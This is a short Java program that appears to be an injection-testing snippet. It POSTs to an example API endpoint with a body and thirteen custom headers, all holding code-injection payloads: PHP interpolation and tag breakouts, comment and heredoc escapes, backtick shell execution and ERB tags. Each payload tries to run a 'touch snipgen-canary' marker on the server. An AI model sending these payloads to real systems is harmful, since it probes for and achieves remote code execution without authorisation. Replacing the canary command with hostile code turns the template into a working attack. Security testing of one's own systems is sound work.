import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Snippet {
    public static void main(String[] args) throws Exception {
        String body = """
            {${touch('snipgen-canary')}}
            '.touch('snipgen-canary').'
            ".touch("snipgen-canary")."
            {$_SERVER[touch("snipgen-canary")]}
            $_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}
            ?><?php touch('snipgen-canary'); ?>
            */ touch('snipgen-canary'); /*
            // ?><?= touch('snipgen-canary') ?>
            \\'.touch('snipgen-canary').\\'
            \\\\'.touch('snipgen-canary').\\\\'
            `touch snipgen-canary`
            <%= touch %>

            EOT
            .touch('snipgen-canary').<<<EOT


            EOF;
            touch('snipgen-canary');

            \\""";

        HttpRequest request = HttpRequest.newBuilder(URI.create("https://api.example.com/run"))
                .header("X-Try-1", "{${touch('snipgen-canary')}}")
                .header("X-Try-2", "'.touch('snipgen-canary').'")
                .header("X-Try-3", "\".touch(\"snipgen-canary\").\"")
                .header("X-Try-4", "{$_SERVER[touch(\"snipgen-canary\")]}")
                .header("X-Try-5", "$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}")
                .header("X-Try-6", "?><?php touch('snipgen-canary'); ?>")
                .header("X-Try-7", "*/ touch('snipgen-canary'); /*")
                .header("X-Try-8", "// ?><?= touch('snipgen-canary') ?>")
                .header("X-Try-9", "\\'.touch('snipgen-canary').\\'")
                .header("X-Try-10", "\\\\'.touch('snipgen-canary').\\\\'")
                .header("X-Try-11", "`touch snipgen-canary`")
                .header("X-Try-12", "<%= touch %>")
                .header("X-Try-15", "\\")
                .header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build();

        HttpClient client = HttpClient.newHttpClient();
        HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
        System.out.println(response.body());
    }
}
